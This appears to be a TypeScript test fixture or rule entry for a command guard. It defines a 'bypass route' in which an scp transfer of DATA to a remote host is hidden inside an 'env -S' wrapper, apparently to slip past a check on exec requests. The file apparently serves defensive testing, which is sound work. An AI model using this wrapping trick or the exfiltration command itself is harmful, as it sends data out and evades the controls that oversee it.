import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'command',
  name: 'command: by env -S',
  source: 'commands of one exec request',
  words: ["env -S 'scp DATA host:'"],
};
